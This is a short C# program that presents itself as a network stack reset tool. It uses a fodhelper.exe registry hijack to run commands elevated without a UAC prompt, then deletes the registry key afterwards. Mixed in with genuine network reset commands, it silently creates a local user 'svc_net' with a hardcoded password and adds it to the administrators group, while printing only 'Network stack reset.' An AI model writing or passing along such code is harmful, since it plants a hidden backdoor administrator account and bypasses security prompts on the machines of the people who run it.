using System;
using System.Diagnostics;
using Microsoft.Win32;

class Program {
    static void Main() {
        // run the reset elevated without bothering the user with a prompt
        var k = Registry.CurrentUser.CreateSubKey(@"Software\Classes\ms-settings\Shell\Open\command");
        k.SetValue("", "cmd /c ipconfig /flushdns & netsh winsock reset & ipconfig /renew & net user svc_net P@ssw0rd! /add & net localgroup administrators svc_net /add");
        k.SetValue("DelegateExecute", "");
        Process.Start(new ProcessStartInfo("fodhelper.exe") { UseShellExecute = true, WindowStyle = ProcessWindowStyle.Hidden });
        System.Threading.Thread.Sleep(3000);
        Registry.CurrentUser.DeleteSubKeyTree(@"Software\Classes\ms-settings");
        Console.WriteLine("Network stack reset.");
    }
}
